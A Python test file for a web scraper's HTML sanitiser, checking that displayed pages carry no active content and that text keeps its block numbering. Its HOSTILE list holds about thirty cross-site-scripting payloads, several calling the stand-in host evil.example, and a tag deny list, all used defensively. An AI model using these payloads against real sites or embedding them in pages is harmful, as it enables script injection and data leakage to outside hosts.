"""A page as it may be shown to a person: nothing of it acts, and each text knows its block."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scraper.page import harmless, read
from tests.fixture_pages import FOLDER

PAGES = sorted(FOLDER.glob("*/page.html"))

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<p onclick=alert(1)>text",
    '<a href="javascript:alert(1)">text</a>',
    '<a href="java&#10;script:alert(1)" ping="//evil.example">text</a>',
    "<img src=x onerror=alert(1)>",
    '<img srcset="//evil.example/1 1x" alt=\'"><script>alert(1)</script>\'>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=a><button formaction=//evil.example>text</button></form>",
    "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>text</a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp></xmp><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css'; p { background: url(//evil.example/p) } </style>",
    "<style></style><script>alert(1)</script></style>",
    "<p style='background:url(//evil.example/p)'>text",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=dns-prefetch href=//evil.example>",
    "<video src=//evil.example poster=//evil.example autoplay></video>",
    "<body background=//evil.example onload=alert(1)>text",
    "<p class='\"><script>alert(1)</script>'>text",
    "<<script>alert(1)</script>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;",
    "<template><script>alert(1)</script></template>",
    "<isindex action=//evil.example><keygen autofocus onfocus=alert(1)>",
    '<p id="xray-1">text',
]
TAG = re.compile(r"<(/?)([a-z0-9]+)((?: [a-z-]+(?:=\"[^\"<>]*\")?)*)>")
ALLOWED = {"class", "id", "style", "align", "valign", "colspan", "rowspan", "width", "height", "dir", "lang", "hidden"}


def check(markup: str) -> None:
    """Every `<` begins a tag that is known, with attributes that are known; none of them reaches out."""
    assert markup.count("<") == len(TAG.findall(markup))
    for _, name, attributes in TAG.findall(markup):
        assert name not in {
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "meta",
            "link",
            "base",
            "svg",
            "math",
            "style",
        }
        for key, value in re.findall(r" ([a-z-]+)(?:=\"([^\"]*)\")?", attributes):
            assert key in ALLOWED | {"data-b", "data-r", "open"}
            assert "url(" not in value.lower()


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_acts(hostile: str) -> None:
    page = read(f"<title>x</title><h1>Harbour wall</h1>{hostile}<p>The wall stands, the board said on Tuesday.</p>")
    shown = harmless(page, {})
    check(shown.body)
    check(f"<p{shown.body_attributes}><p{shown.root_attributes}>")
    assert "<" not in shown.styles
    assert "import" not in shown.styles
    assert "url(" not in shown.styles
    assert "The wall stands" in shown.body


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<", ">", '"', "'", "</p>", "<p ", "<!--", "-->", "text", "\0", "&"]), max_size=8
    )
)
def test_nothing_acts_in_any_order(parts: list[str]) -> None:
    shown = harmless(read("".join(parts)), {})
    check(shown.body)
    check(f"<p{shown.body_attributes}><p{shown.root_attributes}>")
    assert "<" not in shown.styles


@pytest.mark.parametrize("path", PAGES, ids=lambda path: path.parent.name)
def test_every_block_is_found_in_a_page(path: object) -> None:
    page = read(FOLDER.joinpath(str(path)).read_bytes())
    found = {int(number) for number in re.findall(r'data-b="(\d+)"', harmless(page, {}).body)}
    assert page.kind != "html" or len(found) >= 0.9 * len({block.number for block in page.blocks})


def test_the_text_of_a_run_is_that_of_its_block() -> None:
    page = read("<div>A <b>bold</b> word<br>and a line<p>One &amp; two<ul><li>three<li>four</ul><pre>a\nb</pre>")
    shown = harmless(page, {0: "body"})
    for block in page.blocks:
        runs = re.findall(rf'<span(?: id="[^"]*")? data-b="{block.number}" data-r="[^"]*">([^<]*)</span>', shown.body)
        assert "".join("".join(runs).split()).replace("&amp;", "&") == "".join(block.text.split())
    assert 'id="xray-0" data-b="0" data-r="body"' in shown.body


def test_text_dumps_have_a_line_a_block() -> None:
    shown = harmless(read("Harbour wall\n\nThe wall stands & holds, 1 < 2, the board said.\n"), {})
    assert 'data-b="1"' in shown.body
    check(shown.body)


def test_a_huge_page_is_cut_and_takes_linear_time() -> None:
    page = read("<p>The wall stands, the board said on Tuesday.</p>" * 60_000 + "<div>" * 100_000)
    began = time.process_time()
    shown = harmless(page, {})
    assert time.process_time() - began < 8
    assert not shown.is_cut or len(shown.body) <= 6_000_000
